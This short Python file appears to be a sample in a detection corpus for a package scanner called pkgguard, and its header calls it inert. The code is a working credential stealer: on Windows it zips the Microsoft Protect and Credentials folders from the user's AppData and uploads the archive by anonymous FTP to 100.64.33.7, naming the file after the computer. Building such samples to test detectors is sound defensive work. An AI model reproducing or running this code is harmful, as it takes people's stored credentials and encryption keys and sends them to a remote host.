# pkgguard corpus 804 (credentials), modelled on [stealer-profile]; inert, never run.
import ftplib
import io
import os
import sys
import zipfile

if sys.platform == "win32":
    roaming = os.environ.get("APPDATA", "")
    local = os.environ.get("LOCALAPPDATA", "")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for base in (roaming, local):
            for leaf in ("Protect", "Credentials"):
                top = os.path.join(base, "Microsoft", leaf)
                for folder, _, names in os.walk(top):
                    for name in names:
                        full = os.path.join(folder, name)
                        archive.write(full, os.path.relpath(full, base))
    buffer.seek(0)
    with ftplib.FTP("100.64.33.7", "anonymous", "guest", timeout=20) as ftp:
        ftp.storbinary(f"STOR {os.environ.get('COMPUTERNAME', 'pc')}.zip", buffer)
